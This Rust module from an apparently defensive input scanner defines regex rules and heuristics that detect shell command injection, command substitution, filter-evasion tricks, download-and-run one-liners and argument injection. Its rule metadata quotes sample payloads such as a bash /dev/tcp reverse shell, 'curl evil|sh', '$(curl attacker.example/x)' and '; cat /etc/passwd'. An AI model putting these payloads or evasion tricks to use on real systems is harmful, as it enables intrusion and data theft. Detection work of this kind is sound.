//! Command lines: separators with a command behind them, substitutions, interpreters, arguments that run programs.
//!
//! English shares `cat`, `find`, `make` and the semicolon with the shell. A weak word counts only with arguments of a
//! command (a path, a flag, a variable) or at the very end; strong ones (`wget`, `nslookup`) need less.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::{Confidence, Family, Hit, Rule, RuleInfo, Severity, Subject, analyser, certain, hint, likely};
use crate::context::FieldKind;
use crate::engine::compile;

/// Programs whose names no sentence holds.
const STRONG: &str = r"(?:wget|ncat|netcat|n[ck]|bash|zsh|dash|ksh|csh|sh|whoami|uname|nslookup|chmod|chown|printenv|ifconfig|ipconfig|netstat|powershell(?:\.exe)?|pwsh|cmd\.exe|certutil|bitsadmin|rundll32|regsvr32|mshta|wmic|systeminfo|tasklist|busybox|socat|mkfifo|nohup|tftp|tcpdump|base64|xxd|crontab|useradd|rm|rmdir|ls|chroot|insmod|iptables|systemctl)";
/// Programs people talk about: they count with an argument that has the marks of one.
const KNOWN: &str = r"(?:curl|dig|nmap|telnet|ssh|scp|ftp|rsync|traceroute|kubectl|docker|sudo|cp|mv|ps|pwd|lsof|openssl|getent|journalctl|dmesg|lsblk|hexdump|hostnamectl|nsenter|awk|sed|gcc|expr|pip3?|npm|npx|gcloud|aws|apt-get|yum|apk)";
/// Programs that are words, too.
const ANY: &str = r"(?:cat|tac|nl|head|tail|more|less|echo|printf|env|id|w|who|host|ping|ping6|sleep|kill|find|grep|touch|tee|xargs|type|dir|net|del|copy|set|export|source|exec|eval|reboot|shutdown|halt|init|date|sort|uniq|rev|od|strings|tar|zip|unzip|gzip|dd|mail|sendmail|ln|mkdir|hostname|timeout|time|test|cut|diff|split|fold|make|last|groups|df|du|mount|umount|route|arp|history|alias|command|read|nice|watch|at|jobs|fg|bg|wall|write|passwd|apt|cmd|python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|which)";
/// Those of them that begin no line of a text.
const LINE: &str = r"(?:cat|tac|head|tail|echo|printf|env|ping6?|sleep|kill|find|grep|touch|tee|xargs|exec|eval|reboot|shutdown|tar|unzip|dd|mkdir|python[23]?(?:\.\d+)?|perl|ruby|php|node|mount|umount|passwd)";
/// What stands behind a command and not behind a verb: a path, a flag, a variable, an address, a redirection.
const ARGUMENT: &str = r"(?:[\s+]+(?:[\x22']?(?:/|~/|\.{1,2}/|\./|\$|-{1,2}[a-z0-9?]|%\w+%|[a-z]:\\|https?:|\*|\d{1,3}(?:\.\d{1,3}){3}\b|>|<)|[\w-]+\.(?:php|sh|py|txt|conf|log|env|js|json|ya?ml|exe|ini|[a-z]{2,3}/)|\S+\s*(?:\|\s*(?:(?:ba|z|da)?sh|nc|python|perl|php|base64|curl|tee|xargs|sudo)\b|>\s*[\w/.$]))|\s*[<>]\s*[/\w&(.$]|\$\{?IFS|\s*`|\{)";

pub(super) static RULES: &[Rule] = &[
    Rule {
        info: RuleInfo {
            id: "shell-command",
            family: Family::Shell,
            severity: Severity::Critical,
            cwe: 78,
            message: "a shell separator with a command behind it",
            why: "Where a value becomes part of a command line, `; cat /etc/passwd` is a second command. File names are values too: `x.pdf;curl evil|sh` is a legal object key. Speaks for a separator followed by a program with the arguments of a program.",
            example: "127.0.0.1; cat /etc/passwd",
        },
        patterns: &[
            analyser(&[";", "|", "&"], command).prose(),
            analyser(&["\n", "\r"], new_line).prose(),
            // A value that is a command line and nothing else.
            likely(&["/", "\\", " -", "+-", "~"], concat!(r"^[\s+|&$]*(?:sudo[\s+]+)?(?:/(?:usr/(?:local/)?)?s?bin/)?(?:ls|cat|tac|dir|type|more|less|head|tail|rm|cp|mv|chmod|chown|find|e?grep|wget|curl|n[ck]|ncat|netcat|telnet|ssh|scp|ping6?|nslookup|dig|tftp|ftp|wmic|tasklist|whoami|uname|whereis|kill|killall|crontab|useradd|touch|mkdir|tar|dd|xcopy|copy|del|attrib|certutil|bitsadmin|mshta|rundll32|regsvr32|reg|netsh)(?:[\s+]+-{1,2}\w[\w=-]*|[\s+]+\d+){0,4}(?:[\s+]+[\w.-]+){0,2}[\s+]+(?:[\x22']?(?:/(?:\w[\w.*-]*/?)+|/$|[a-z]:[\\/]\S*|~/\S*|\.\.?/\S*|\$\{?\w+\}?\S*|https?://\S+)[\x22']?\s*)(?:\S+\s*){0,3}$", r"|^[\s+|&$]*(?:uname[\s+]+-[a-z]|ls[\s+]+-[a-z]+|ps[\s+]+-?(?:aux|ef)|id[\s+]+-\w|netstat[\s+]+-[a-z]+|ifconfig[\s+]+-a|ipconfig[\s+]+/all|dir[\s+]+/[a-z]|net[\s+]+view[\s+]+/\w+)\s*$")).prose(),
            likely(&["uname -", "netstat -", "ps -", "ps aux", "id -", "ls -", "ifconfig -", "which "], r"^\s*(?:uname -[a-z]+|netstat -[a-z]+|ps (?:-?aux|-ef)|id -[a-z]|ls -[a-z]+|ifconfig -a|which (?:wget|curl|gcc|perl|python[23]?|nc|ncat|php|ruby|bash))\s*$").plain().prose(),
            likely(&["net user", "net localgroup", "netsh ", "reg add", "reg query", "reg delete", "sc stop", "sc config", "schtasks", "wmic ", "vssadmin", "bcdedit", "net start", "net stop"], r"(?:^|[;|&\s])net\s+(?:user|localgroup)\s+\S+\s+(?:\S+\s+)?/add\b|\bnetsh\s+(?:firewall|advfirewall|interface|wlan)\s+\w+|\breg\s+(?:add|query|delete|save)\s+[\x22']?hk(?:lm|cu|cr|ey_)|\bschtasks\s+/(?:create|run)|\bvssadmin\s+delete|\bwmic\s+(?:process|os|useraccount|service|qfe)\b|\bbcdedit\s+/|\bsc\s+(?:stop|config|create)\s+\w+").plain().prose(),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "shell-substitution",
            family: Family::Shell,
            severity: Severity::Critical,
            cwe: 78,
            message: "a command substitution, which a shell runs even inside double quotes",
            why: "`$(curl evil)` and backticks are run before the command they stand in. In prose, backticks are markup: there they count only around something no manual says.",
            example: "report-$(curl attacker.example/x).pdf",
        },
        patterns: &[
            analyser(&["$("], substitution).prose(),
            analyser(&["`"], backticks).prose(),
            likely(&["<(", ">("], r"[<>]\(\s*(?:curl|wget|bash|sh|cat|echo|nc|python[23]?|base64)\s"),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "shell-evasion",
            family: Family::Shell,
            severity: Severity::Critical,
            cwe: 78,
            message: "tricks that hide a command from filters: ${IFS} for a space, globs for letters, function definitions in variables",
            why: "These constructions mean nothing outside a shell and serve inside it to avoid spaces and names.",
            example: "x;cat${IFS}/etc/passwd",
        },
        patterns: &[
            certain(&["$ifs", "${ifs", "$@", "() {", "(){", "() \t{"], r"\$\{?IFS\b|\w\$@\w+\s+[/-]|\(\)\s*\{\s*[:_\w]*\s*;?\s*\}\s*;"),
            likely(&["?/", "*/", "/?", "/*", "???", "/bin/", "/etc/", "/usr/"], r"(?:^|[\s;|&`(=])/(?:[a-z]*[?\[][a-z?*\]\[]*/[a-z?*\]\[]*[?*\[]|\?{2,}/|[a-z]{1,4}[?*]?/[a-z?]*\?[a-z?]*(?:\s|$)|[a-z]+/[a-z]*\?[a-z?]*(?:\s+[/-]|$))"),
            likely(&["{", "${path", "${home", "${shell", "${#"], r"(?:^|[;|&`(\n])\s*\{(?:\w+,[^}\s]+|,[^}\s]*\w[^}\s]*)\}(?:$|[\s;|&`)'\x22])|\$\{(?:PATH|HOME|SHELL|PWD|OLDPWD):\d+:\d+\}"),
            likely(&["$'\\"], r"\$'(?:[^']{0,40})\\(?:x[0-9a-f]{2}|[0-3]?[0-7]{2}|u[0-9a-f]{4})"),
            likely(&[";$", "; $", "|$", "| $", "&$", "& $"], r"(?:^|[;&|\s])[a-z_]\w*=[^;&|=]*[;&|].{0,200}[;&|]\s*\$\{?[a-z_]\w*\}?\s*(?:$|[\s;&|$`])"),
            likely(&["%comspec%", "%systemroot%", ":~"], r"%(?:comspec|systemroot)%|%\w+:~-?\d+(?:,-?\d+)?%"),
            // Letters of well-known names replaced by globs, in the middle of them.
            likely(&["/e", "/?", "/*"], r"/(?:e[*?\[]|\?t|\*t|\[e)[^/\s]{0,8}/[^/\s]{0,6}(?:p[a*?]|[*?]a?s|ss|wd|sh)[^/\s]{0,8}(?:\s|$|['\x22;|&+])"),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "shell-download-run",
            family: Family::Shell,
            severity: Severity::Critical,
            cwe: 78,
            message: "a program fetched, decoded or piped straight into an interpreter, or a shell connected to the network",
            why: "The one-liners of break-ins: fetch and run, decode and run, reverse shells, scheduled persistence.",
            example: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        },
        patterns: &[
            certain(&["/dev/tcp/", "/dev/udp/", "nc -", " -e ", " -c ", "ncat ", "mkfifo /", "bash -i", "sh -i", "pty.spawn", "socat "], r"/dev/(?:tcp|udp)/[\w.$]+/|\bnc(?:at)?\s+(?:\S+\s+){0,6}-(?:e|c|[a-z]*e)\b\s*\S|\bmkfifo\s+/|\b(?:ba|z|k)?sh\s+-i\b\s*(?:[>&0-9|]|$)|pty\.spawn\s*\(|\bsocat\s+.{0,40}exec:"),
            certain(&["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| perl", "|perl", "| /bin", "|/bin", "| zsh", "| node", "|node", "| ruby", "|php", "| php", "|dash"], r"\b(?:curl|wget|fetch|base64|echo|printf|cat|xxd|openssl)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:/\w+(?:/\w+)*/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|ruby|php|node)\b").prose(),
            likely(&["rm -", "rm+-"], r"^\s*(?:sudo\s+)?rm[\s+]+-[rfv-][\w-]*[\s+]+(?:-[\w-]+[\s+]+)*(?:/|~|\*|\$|\.\s*(?:;|$))").prose(),
            likely(&["/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/nc", "/bin/cat", "/bin/ls", "/bin/id", "/bin/wget", "/bin/curl", "/bin/python", "/bin/perl", "/bin/busybox"], r"(?:^|[^\w#!/])(?:/usr)?(?:/local)?/bin/(?:(?:ba|z|da|k)?sh\b|(?:nc|cat|id|ls|wget|curl|python[23]?|perl|busybox)\b)(?:\s+-|\s*[;|&'\x22]|\s+/|\s*$|\$)|^/bin/(?:ba)?sh").prose(),
            likely(&["sh -c", "bash -c", "sh+-c", "cmd /c", "cmd.exe /c", "cmd.exe", "python -c", "python3 -c", "perl -e", "php -r", "ruby -e", "node -e", "lua -e", "python2 -c"], r"\b(?:ba|z|k|da)?sh\s+-[a-z]*c\s+\S|\bcmd(?:\.exe)?\s*/[ck]\s*\S|\b(?:python[23]?\s+-c|(?:perl|ruby|lua|node)\s+-e|php\s+-r)\s*['\x22]?\S").prose(),
            likely(&["powershell", "pwsh", "invoke-expression", "downloadstring", "iex(", "iex (", "invoke-webrequest", "| iex", "|iex", "frombase64string", "start-process"], r"\b(?:powershell|pwsh)(?:\.exe)?\b.{0,80}\s-(?:e|en|enc|encodedcommand|ec|nop|noprofile|w|windowstyle|c|command|ep|exec|executionpolicy)\b|\bdownload(?:string|file)\s*\(|\biex\s*[\s(]\s*\(?\s*(?:new-object|iwr|irm|\[|\$|invoke-)|\|\s*iex\b|\binvoke-expression\b\s*[\s($\x22']|\[(?:system\.)?convert\]::frombase64string").prose(),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "shell-argument",
            family: Family::Shell,
            severity: Severity::High,
            cwe: 88,
            message: "an option that makes a harmless program run another one",
            why: "Even without a shell, a value that begins with a dash becomes an option: tar, git, ssh, curl, find each have one that runs or overwrites something.",
            example: "--checkpoint-action=exec=sh shell.sh",
        },
        patterns: &[
            certain(&["--checkpoint-action", "proxycommand", "--use-compress-program", "--upload-pack", "--receive-pack", "-exec ", "--to-command", "--rsh=", "--post-file", "--open-files-in-pager", "--output-document", "--config-env", "--new-window-command", "permitlocalcommand", "--use-askpass", "--use-pager", "--ext-diff", "--gpu-launcher", "--renderer-cmd-prefix", "--utility-cmd-prefix"], r"^\s*(?:-[\w-]*\s+)?(?:--checkpoint-action\s*=|-o\s*ProxyCommand|--use-compress-program[= ]|--(?:upload|receive)-pack[= ]|--to-command\s*=|--rsh\s*=|--post-file\s*=|--open-files-in-pager|--output-document\s*=\s*[/.]|--config-env|--use-askpass\s*=|-o\s*PermitLocalCommand)|--(?:gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix)\s*=|\s-exec(?:dir)?\s+[\w/.]+\s.*(?:\\?;|\{\}|\+)|\s--checkpoint-action\s*=|\s--(?:upload|receive)-pack=|-oProxyCommand\s*="),
            likely(&["--exec", "--eval", "-oG", "-iL", "--script", "-d @", "--data @", "-F file=@", "--config=", "--output=", "-o /", "-T /", "--init-command", "-dsafer", "--no-sandbox"], r"^\s*--(?:exec|eval|init-command)[= ]\S|^\s*(?:--script|--config)=\S*(?:https?:|/|\.\.)|^\s*--output=(?:/|\.\.)|^\s*-(?:oG|iL|o|T)\s*/\w+/|^\s*(?:-d|--data(?:-binary)?)\s+@/|-dNOSAFER"),
            likely(&["-rf ", "-fr ", "-x/", "-x /", "-oqueuedirectory"], r"^\s*-(?:rf|fr)\s+[/~*.]|(?:^|\s)-X\s?/(?:tmp|var|www|srv|home|opt)/|(?:^|\s)-OQueueDirectory="),
            // Names of files that a picture converter takes for programs and for files to read.
            likely(&["msl:", "ephemeral:", "mvg:", "vid:", "epi:", "pango:", "caption:@", "label:@", "text:@", "inline:"], r"^(?:msl|ephemeral|mvg|vid|epi):[/.\w]|^(?:pango|caption|label|text|inline):@?/|^(?:caption|label|text|pango):@"),
            hint(&["--"], r"^--[a-z][a-z-]+(?:=\S+)$"),
        ],
    },
];

struct Expressions {
    /// A separator and a name, whatever follows: what all of [`command`]'s expressions begin with.
    gate: Regex,
    strong: Regex,
    weak: Regex,
    alone: Regex,
    after_break: Regex,
    substitution: Regex,
    inside: Regex,
}

fn expressions() -> &'static Expressions {
    static EXPRESSIONS: OnceLock<Expressions> = OnceLock::new();
    EXPRESSIONS.get_or_init(|| {
        let path = r"(?:(?:/|/?usr/(?:local/)?)s?bin/)?";
        let end = r"(?:\s*$|\s*[;&|`)#'\x22]|\s+[;&|#'\x22])";
        let separator = r"(?:;|\|\|?|&&?)[\s+(]*";
        let marked = r"[\s+]+[^\s;|&]*[\w\])}][./:$|{\\@=-][\w/$~*]";
        let rest = r"[\s+]+[\w-]+\s*(?:[|;&`]|>\s*\S|$)";
        Expressions {
            gate: compile(&format!(r"{separator}(?:{path}(?:{STRONG}|{KNOWN}|{ANY}|ver)\b|(?:/var)?/tmp/|/dev/shm/)")),
            strong: compile(&format!(
                r"{separator}{path}(?:{STRONG}\b(?:(?:[\s+]+[\w+]+)?{ARGUMENT}|{marked}|{rest}|{end})|{KNOWN}\b(?:{ARGUMENT}|{marked})|aws[\s+]+(?:s3|s3api|sts|iam|ec2|lambda|dynamodb|secretsmanager|ssm|kms|configure|logs|sns|sqs)[\s+]+[a-z])"
            )),
            weak: compile(&format!(
                r"{separator}(?:{path}{ANY}\b{ARGUMENT}|(?:/var)?/tmp/[\w.-]+\s*(?:$|[;&|])|/dev/shm/\w)"
            )),
            alone: compile(&format!(
                r"(?:;|\|\|?|&&?)\s*{path}(?:id|env|ls|ps|pwd|whoami|uname|hostname|w|who|dir|set|ipconfig|ifconfig|netstat|reboot|shutdown|printenv|ver|systeminfo|sleep\s+\d+|ping\s+-[cn]\s*\d+\s+\S+|echo\s+\S+|nslookup\s+\S+|sleep\$\S+|ping\s+[\w.-]+\.[a-z]{{2,}}|cat\s+[\w-]+|del\s+\S+|net\s+(?:user|share|view|localgroup)\b[^;]*|kill\s+-?\d+.*|rm\s+\S+|touch\s+\S+)\s*(?:[;#&|'\x22\n]*\s*$|;|&&|\|\|)"
            )),
            after_break: compile(&format!(r"[\r\n]\s*{path}(?:{STRONG}|{KNOWN}|{LINE})\b(?:{ARGUMENT})|[\r\n]\s*(?:id|whoami|uname -a|ls|env|ifconfig)\s*[;|&]?\s*$")),
            substitution: compile(&format!(r"\$\(+\s*(?:{path}(?:{STRONG}|{KNOWN}|{ANY})\b[^)]{{0,300}}|/\w+/[\w/]+|<\s*[/\w.]|`\w|\(|\d+\s*[*+-]\s*\d+|printf\b)")),
            inside: compile(&format!(r"^\s*{path}(?:{STRONG}|{KNOWN}|{ANY})(?:$|[\s;|&<>$]|\W*$)")),
        }
    })
}

/// A separator and a command.
fn command(subject: &Subject<'_>) -> Option<Hit> {
    let bytes = subject.text.as_bytes();
    let expressions = expressions();
    if !expressions.gate.is_match(bytes) {
        return None;
    }
    let hit = |found: regex::bytes::Match<'_>, confidence| Some(Hit { range: found.range(), confidence });
    for expression in [&expressions.strong, &expressions.weak] {
        if let Some(found) = expression.find_iter(bytes).find(|found| !is_list(bytes, found.start(), found.end())) {
            return hit(found, Confidence::Likely);
        }
    }
    let found = expressions.alone.find_iter(bytes).find(|found| !is_list(bytes, found.start(), found.end()))?;
    let before = bytes.get(..found.start()).unwrap_or_default();
    // `name;price;id` is a header of columns, `?a=1&id` an address, `| id |` a row of a table.
    let columns = before
        .iter()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b';' | b'|' | b',' | b' ' | b'\t'))
        && before.iter().any(|byte| matches!(byte, b';' | b'|'));
    let query = bytes.get(found.start()) == Some(&b'&')
        && bytes.get(found.start() + 1).is_some_and(|byte| *byte != b'&' && *byte != b' ')
        && before.contains(&b'=');
    let table = bytes.get(found.start()) == Some(&b'|') && bytes.contains(&b'\n');
    // `bring your passport; id` ends in a word, `8.8.8.8; id` in a command.
    let word = [&b"id"[..], b"env", b"set", b"dir", b"who", b"w", b"ver"]
        .iter()
        .any(|word| found.as_bytes().trim_ascii().ends_with(word));
    // `Find & Fix Plumbing; echo Park` ends in a name.
    let named = found.as_bytes().rsplit(|byte| *byte == b' ').next().is_some_and(|last| {
        last.first().is_some_and(u8::is_ascii_uppercase) && last.iter().all(u8::is_ascii_alphabetic)
    });
    let sentence = (word || named) && before.iter().filter(|byte| **byte == b' ').count() >= 2;
    match (columns || query || table, sentence) {
        (true, _) => None,
        (false, true) => hit(found, Confidence::Hint),
        (false, false) => hit(found, Confidence::Likely),
    }
}

/// Whether the separator belongs to a cookie, a header parameter or a row of words: `; sh=1`, `| id |`.
fn is_list(bytes: &[u8], start: usize, end: usize) -> bool {
    let matched = bytes.get(start..end).unwrap_or_default();
    let assigned = bytes.get(end) == Some(&b'=') || matched.ends_with(b"=");
    let row = matched.starts_with(b"|")
        && !matched.starts_with(b"||")
        && matched.ends_with(b"|")
        && bytes.get(end).is_none_or(u8::is_ascii_whitespace)
        && bytes.iter().filter(|byte| **byte == b'|').count() > 2
        && !matched.contains(&b'/')
        && !matched.contains(&b'-');
    assigned || row
}

/// A line of its own with a command on it. Honest texts quote commands, so longer ones and fenced ones are only hints.
fn new_line(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    let found = expressions().after_break.find(text.as_bytes())?;
    let document = text.contains("```") || text.lines().take(5).count() > 3 || text.len() > 400;
    Some(Hit { range: found.range(), confidence: if document { Confidence::Hint } else { Confidence::Likely } })
}

/// `$(command …)`.
fn substitution(subject: &Subject<'_>) -> Option<Hit> {
    let found = expressions().substitution.find(subject.text.as_bytes())?;
    Some(Hit { range: found.range(), confidence: Confidence::Likely })
}

/// Backticks around a command, unless they look like markup.
fn backticks(subject: &Subject<'_>) -> Option<Hit> {
    static SUSPICIOUS: OnceLock<Regex> = OnceLock::new();
    let text = subject.text;
    let bytes = text.as_bytes();
    let mut weak = None;
    let mut at = 0;
    // Pairs of backticks, left to right; a fence of three is markup.
    while let Some(start) = text.get(at..).and_then(|rest| rest.find('`')).map(|offset| at + offset) {
        let run = bytes.iter().skip(start).take_while(|byte| **byte == b'`').count();
        if run >= 2 {
            // An empty pair, or a mark of several that ends where as many stand again.
            let mark = "`".repeat(run.min(8));
            at = text
                .get(start + run..)
                .and_then(|rest| rest.find(&mark))
                .filter(|_| run >= 3)
                .map_or(start + run, |offset| start + run + offset + mark.len());
            continue;
        }
        let Some(length) = text.get(start + 1..).and_then(|rest| rest.find('`')) else { break };
        let inside = text.get(start + 1..start + 1 + length).unwrap_or_default();
        at = start + length + 2;
        if inside.is_empty() || !expressions().inside.is_match(inside.as_bytes()) {
            continue;
        }
        let attached = start > 0
            && bytes.get(start - 1).is_some_and(|byte| {
                !byte.is_ascii_whitespace() && !matches!(byte, b'(' | b'[' | b'_' | b'*' | b'"' | b'|' | b'\'')
            });
        let whole = start == 0 && at >= text.len();
        let suspicious = SUSPICIOUS
            .get_or_init(|| compile(r"/etc/|\$\{?IFS|\|\s*(?:ba)?sh|\b(?:nc|ncat|nslookup|whoami|wget|curl)\s+\S*[./]|/dev/tcp|/proc/|\bsleep\s+\d|>\s*/"))
            .is_match(inside.as_bytes());
        let prose = subject.context.kind == FieldKind::FreeText;
        let confidence =
            if whole || attached || (suspicious && !prose) { Confidence::Likely } else { Confidence::Hint };
        if confidence == Confidence::Likely {
            return Some(Hit { range: start..at, confidence });
        }
        weak = weak.or(Some(Hit { range: start..at, confidence }));
    }
    weak
}
